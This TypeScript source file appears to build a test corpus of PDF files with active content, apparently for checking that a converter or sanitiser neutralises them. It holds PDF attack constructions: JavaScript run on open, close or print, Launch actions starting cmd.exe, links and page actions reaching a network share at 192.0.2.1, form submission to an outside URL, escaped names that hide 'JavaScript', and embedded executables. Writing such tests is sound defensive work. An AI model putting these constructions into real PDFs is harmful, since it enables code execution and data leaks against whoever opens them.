/** PDF files with parts that act when somebody opens them; pictures of their pages cannot. */
import { deflateSync } from 'node:zlib'
import type { CorpusFile } from '../corpusFile'
import { FOREIGN } from '../corpusFile'
import { lockedPaper } from './locked'
import { packedPaper } from './packed'
import { EXTRA, SHEET, annotated, paper, streamOf } from './parts'
import { noted, taken } from './rows'

const SCRIPT = `<< /S /JavaScript /JS (app.alert\\("${FOREIGN}"\\)) >>`
const PROGRAM = Buffer.from(`MZ\x90\0${FOREIGN} This program cannot be run in DOS mode`, 'latin1')

const opening = (action: string) => paper({ catalog: `/OpenAction << ${action} >> ` })
const linking = (action: string) => annotated(`/Subtype /Link /A << ${action} >>`)

const scripts: CorpusFile[] = [
  taken('a script when the file opens', () => paper({ catalog: `/OpenAction ${SCRIPT} ` })),
  noted('script')('a script in the names', () =>
    paper({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >> ` }),
  ),
  noted('script')('a script when the page opens', () => paper({ page: `/AA << /O ${SCRIPT} >> ` })),
  taken('a script when the file closes', () => paper({ catalog: `/AA << /WC ${SCRIPT} >> ` })),
  taken('a script when a link is pressed', () => annotated(`/Subtype /Link /A ${SCRIPT}`)),
  noted('form')('a script when a field changes', () =>
    annotated(`/Subtype /Widget /FT /Tx /T (f) /AA << /K ${SCRIPT} /F ${SCRIPT} >>`),
  ),
  taken('a script behind another action', () =>
    opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`),
  ),
  taken('names written as #4a…', () =>
    paper({
      catalog: `/Open#41ction << /#53 /J#61vaScript /#4a#53 (app.alert\\("${FOREIGN}"\\)) >> `,
    }),
  ),
  taken('a script in a stream', () =>
    paper({
      catalog: `/OpenAction << /S /JavaScript /JS ${EXTRA} 0 R >> `,
      extra: [streamOf(deflateSync(FOREIGN), '/Filter /FlateDecode ')],
    }),
  ),
  taken('a script in an object stream', () =>
    packedPaper({ catalog: `/OpenAction ${EXTRA} 0 R `, extra: [[SCRIPT]] }, { predictor: true }),
  ),
  taken('a script in an encrypted file', () =>
    lockedPaper('', (lock) => ({
      catalog: `/OpenAction << /S /JavaScript /JS ${EXTRA} 0 R >> `,
      drawing: streamOf(lock(SHEET)),
      extra: [streamOf(lock(`app.alert("${FOREIGN}")`))],
    })),
  ),
  taken('a script when the file is printed', () =>
    paper({ catalog: `/OpenAction [3 0 R /Fit] /AA << /DP ${SCRIPT} /WP ${SCRIPT} >> ` }),
  ),
]

const actions: CorpusFile[] = [
  noted('launch')('a program that a link starts', () =>
    linking(`/S /Launch /F (${FOREIGN}.exe) /Win << /F (cmd.exe) /P (/c ${FOREIGN}) >>`),
  ),
  taken('a program that starts when the file opens', () =>
    opening(`/S /Launch /F (${FOREIGN}.exe)`),
  ),
  noted('link')('a file of a share that a link opens: GoToR', () =>
    linking(`/S /GoToR /F (\\\\\\\\192.0.2.1\\\\${FOREIGN}\\\\a.pdf) /D [0 /Fit]`),
  ),
  noted('link')('a file of a share when the page opens: GoToR', () =>
    paper({
      page: `/AA << /O << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\${FOREIGN}\\\\a.pdf) /D [0 /Fit] >> >> `,
    }),
  ),
  noted('link')('a file inside the file: GoToE', () =>
    linking(`/S /GoToE /F (${FOREIGN}.pdf) /D [0 /Fit] /T << /R /C /N (${FOREIGN}) >>`),
  ),
  taken('a web page when the file opens', () =>
    opening(`/S /URI /URI (https://example.org/${FOREIGN})`),
  ),
  noted('link')('a script as the address of a link', () =>
    linking(`/S /URI /URI (javascript:alert\\('${FOREIGN}'\\))`),
  ),
  taken('printing when the file opens', () => opening('/S /Named /N /Print')),
  taken('a form that sends itself', () =>
    linking(`/S /SubmitForm /F << /FS /URL /F (https://example.org/${FOREIGN}) >> /Flags 4`),
  ),
  taken('data that are read from a share', () =>
    linking(`/S /ImportData /F (\\\\\\\\192.0.2.1\\\\${FOREIGN}\\\\a.fdf)`),
  ),
]

const media: CorpusFile[] = [
  noted('media')('a film: RichMedia', () =>
    annotated(`/Subtype /RichMedia /RichMediaContent ${EXTRA + 1} 0 R`, [
      [`<< /Assets << /Names [(${FOREIGN}.swf) << /F (${FOREIGN}.swf) >>] >> >>`],
    ]),
  ),
  noted('media')('a body: 3D with a script', () =>
    annotated(`/Subtype /3D /3DD ${EXTRA + 1} 0 R`, [
      streamOf(FOREIGN, `/Type /3D /Subtype /U3D /OnInstantiate ${EXTRA + 1} 0 R `),
    ]),
  ),
  noted('media')('a film: Movie', () =>
    annotated(`/Subtype /Movie /Movie << /F (${FOREIGN}.avi) >> /A true`),
  ),
  noted('media')('a sound', () =>
    annotated(`/Subtype /Sound /Sound ${EXTRA + 1} 0 R`, [
      streamOf(FOREIGN, '/Type /Sound /R 8000 '),
    ]),
  ),
  noted('media')('a film: Screen with a rendition', () =>
    annotated(
      `/Subtype /Screen /A << /S /Rendition /OP 0 /JS (${FOREIGN}) /R << /S /MR /C << /S /MCD /D (${FOREIGN}) >> >> >>`,
    ),
  ),
]

const attached: CorpusFile[] = [
  noted('attachment')('a program that is attached', () =>
    paper({
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${EXTRA + 1} 0 R] >> >> `,
      extra: [streamOf(PROGRAM, '/Type /EmbeddedFile '), fileOf(`${FOREIGN}.exe`)],
    }),
  ),
  noted('attachment')('a program that is pinned to the page', () =>
    annotated(`/Subtype /FileAttachment /FS ${EXTRA + 2} 0 R`, [
      streamOf(PROGRAM, '/Type /EmbeddedFile '),
      [`<< /Type /Filespec /F (${FOREIGN}.exe) /EF << /F ${EXTRA + 1} 0 R >> >>`],
    ]),
  ),
  noted('dynamicForm')('a form in XML: XFA', () =>
    paper({
      catalog: `/AcroForm << /Fields [] /XFA ${EXTRA} 0 R >> `,
      extra: [
        streamOf(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${FOREIGN}</script></xdp:xdp>`,
        ),
      ],
    }),
  ),
  noted('form')('a field that shows another’s file', () =>
    annotated(`/Subtype /Widget /FT /Tx /T (f) /V (${FOREIGN}) /MK << /I ${EXTRA + 1} 0 R >>`, [
      streamOf('', `/Type /XObject /Subtype /Image /F (//192.0.2.1/${FOREIGN}) `),
    ]),
  ),
  taken('a picture that is in another file', () =>
    paper({
      resources: `/XObject << /P ${EXTRA} 0 R >> `,
      drawing: streamOf(`${SHEET}\nq 200 0 0 200 100 100 cm /P Do Q`),
      extra: [
        streamOf(
          '',
          `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (file:///etc/${FOREIGN}) `,
        ),
      ],
    }),
  ),
  taken('a page that is drawn from another file', () =>
    paper({
      resources: `/XObject << /P ${EXTRA} 0 R >> `,
      drawing: streamOf(`${SHEET}\n/P Do`),
      extra: [
        streamOf(
          '',
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (https://example.org/${FOREIGN}) /Page 0 >> `,
        ),
      ],
    }),
  ),
]

export const activePapers: readonly CorpusFile[] = [...scripts, ...actions, ...media, ...attached]

function fileOf(name: string) {
  return [`<< /Type /Filespec /F (${name}) /EF << /F ${EXTRA} 0 R >> >>`]
}
